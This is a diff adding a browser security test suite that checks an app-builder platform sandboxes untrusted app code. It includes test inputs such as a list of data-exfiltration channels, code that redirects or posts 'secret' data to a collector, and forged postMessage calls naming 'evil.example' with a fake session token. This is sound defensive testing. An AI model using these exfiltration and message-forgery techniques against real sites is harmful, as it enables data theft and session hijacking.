@@ -1,0 +1,187 @@
+import { expect } from 'chai';
+import { launchBrowser } from '@buildai/web/testing';
+import type { AppHost } from './support/app-host.js';
+import { startAppHost } from './support/app-host.js';
+import { filesOf } from './support/bundling.js';
+import type { Collector } from './support/collector.js';
+import { startCollector } from './support/collector.js';
+import type { Targets } from './support/hostile-app.js';
+import { hostileCode } from './support/hostile-app.js';
+import type { Browser, Page } from './support/shell.js';
+import { builtShell, openAsAda, previewFrame } from './support/shell.js';
+
+const openToAll = JSON.stringify({
+  properties: { text: { type: 'string' } },
+  'x-accessControl': { permissions: { read: 'anonymous', write: 'anonymous' } },
+});
+
+/** What arrives of a page that nothing holds back: without these the test would prove nothing. */
+const waysThatWork = [
+  'fetch',
+  'post',
+  'xhr',
+  'beacon',
+  'socket',
+  'events',
+  'image',
+  'stylesheet',
+  'script',
+  'worker',
+  'frame',
+  'stun',
+];
+
+/** Longer than any of the ways takes where it works. Milliseconds. */
+const allDone = 2500;
+
+describe('Hostile code in an app', function () {
+  this.timeout(120_000);
+  let browser: Browser;
+  let host: AppHost;
+  let collector: Collector;
+  let targets: Targets;
+  let appId: string;
+
+  const lootOf = (page: Page) =>
+    page
+      .waitForFunction(() => (window as unknown as { loot?: object }).loot)
+      .then((loot) => loot.jsonValue());
+
+  before(async () => {
+    browser = await launchBrowser();
+    host = await startAppHost({ webRoot: builtShell() });
+  });
+  after(async () => {
+    await browser?.close();
+    await host?.stop();
+  });
+  beforeEach(async () => {
+    collector = await startCollector();
+    const other = await host.newApp(
+      filesOf({ 'entities/Note.json': openToAll, 'pages/Home.jsx': 'export default () => 1' }),
+    );
+    await host.addRecords(other.app.appId, 'Note', [{ text: 'a secret of the other app' }]);
+    targets = {
+      collector: collector.url,
+      stun: collector.stun,
+      platform: host.url,
+      otherApp: { appId: other.app.appId, origin: await host.publish(other.app.appId) },
+    };
+    const files = filesOf({
+      'services/hostile.js': hostileCode(targets),
+      'pages/Home.jsx': `import { tried } from '@/services/hostile';
+export default function Home() { tried; return <h1>Harmless</h1>; }`,
+    });
+    appId = (await host.newApp(files)).app.appId;
+  });
+  afterEach(() => collector[Symbol.asyncDispose]());
+
+  it('would carry data out by all these ways if nothing held it back', async () => {
+    collector.page = hostileCode(targets);
+    const page = await browser.newPage();
+    await page.goto(`${collector.url}/page`, { waitUntil: 'commit' });
+    await page.waitForTimeout(allDone);
+    expect([...collector.arrived]).to.include.members(waysThatWork);
+    await page.close();
+  });
+
+  it("gets at nothing of the platform or of another app from the builder's frame, and carries nothing out", async () => {
+    const page = await openAsAda(browser, host);
+    const address = `${host.url}/build/app/${appId}?panel=preview`;
+    await page.goto(address);
+    await previewFrame(page).getByText('Harmless').waitFor();
+    await page.waitForTimeout(allDone);
+    const frame = page.frames().find((each) => each.url().includes('--'));
+    expect(await frame?.evaluate(() => (window as unknown as { loot?: object }).loot)).to.deep.equal({});
+    expect(page.url()).to.equal(address);
+    expect(await frame?.evaluate(() => document.querySelectorAll('iframe, object, embed').length)).to.equal(
+      0,
+    );
+    expect([...collector.arrived]).to.deep.equal([]);
+    await page.close();
+  });
+
+  it('gets at nothing and carries nothing out from its published page', async () => {
+    const page = await browser.newPage();
+    await page.goto(await host.publish(appId));
+    expect(await lootOf(page)).to.deep.equal({});
+    await page.waitForTimeout(allDone);
+    expect([...collector.arrived]).to.deep.equal([]);
+    await page.close();
+  });
+
+  const departures: Readonly<Record<string, (address: string) => string>> = {
+    'by its address': (address) => `location.href = '${address}';`,
+    'by a form': (address) => `const form = document.createElement('form');
+      Object.assign(form, { action: '${address}', method: 'POST' });
+      document.body.append(form);
+      form.submit();`,
+  };
+  for (const [way, leave] of Object.entries(departures)) {
+    it(`cannot take the builder's frame to another site ${way}`, async () => {
+      const { app } = await host.newApp(
+        filesOf({
+          'pages/Home.jsx': `setTimeout(() => { ${leave(`${collector.url}/left?data=secret`)} }, 1500);
+export default function Home() { return <h1>Leaving</h1>; }`,
+        }),
+      );
+      const page = await openAsAda(browser, host);
+      await page.goto(`${host.url}/build/app/${app.appId}?panel=preview`);
+      await previewFrame(page).getByText('Leaving').waitFor();
+      await page.waitForTimeout(allDone);
+      expect([...collector.arrived]).to.deep.equal([]);
+      await page.close();
+    });
+  }
+
+  it('has a storage of its own, which no other app and no platform sees', async () => {
+    const page = await openAsAda(browser, host);
+    const onPlatform = await page.evaluate(() => Object.keys(localStorage));
+    expect(onPlatform).to.not.deep.equal([]);
+    await page.goto(await host.previewOrigin(appId));
+    expect(await page.evaluate(() => [Object.keys(localStorage), document.cookie])).to.deep.equal([[], '']);
+    await page.evaluate(() => localStorage.setItem('mine', '1'));
+    await page.goto(targets.otherApp.origin);
+    expect(await page.evaluate(() => localStorage.getItem('mine'))).to.equal(null);
+    await page.close();
+  });
+
+  it('is not believed when it speaks for another window, or to another', async () => {
+    const talking = filesOf({
+      'pages/Home.jsx': `parent.postMessage({ channel: 'buildai/app', type: 'navigated', path: 'https://evil.example/' }, '*');
+parent.postMessage({ channel: 'buildai/app', type: 'navigated', path: '//evil.example/' }, '*');
+parent.postMessage({ channel: 'buildai/builder', type: 'session', token: 'x', expiresAt: 'x' }, '*');
+export default function Home() { return <h1>Talking</h1>; }`,
+    });
+    const { app } = await host.newApp(talking);
+    const page = await openAsAda(browser, host);
+    await page.goto(`${host.url}/build/app/${app.appId}?panel=preview`);
+    await previewFrame(page).getByText('Talking').waitFor();
+    expect(await page.getByLabel('Page of the app').inputValue()).to.equal('/');
+    // The page around the frame is not the app's: what it sends to itself in the app's name is nobody's word.
+    await page.evaluate(() =>
+      window.postMessage({ channel: 'buildai/app', type: 'navigated', path: '/forged' }, '*'),
+    );
+    await page.waitForTimeout(200);
+    expect(await page.getByLabel('Page of the app').inputValue()).to.equal('/');
+    await page.close();
+  });
+
+  it('is shown in a frame by nobody but the builder', async () => {
+    const published = await host.publish(appId);
+    collector.page = `for (const address of ['${published}', '${await host.previewOrigin(appId)}']) {
+      document.body.append(Object.assign(document.createElement('iframe'), { src: address }));
+    }`;
+    const page = await browser.newPage();
+    await page.goto(`${collector.url}/page`);
+    await page.waitForTimeout(1500);
+    const shown = await Promise.all(
+      page
+        .frames()
+        .slice(1)
+        .map((frame) => frame.evaluate(() => document.body.innerText)),
+    );
+    for (const text of shown) expect(text).to.not.include('Harmless');
+    await page.close();
+  });
+});
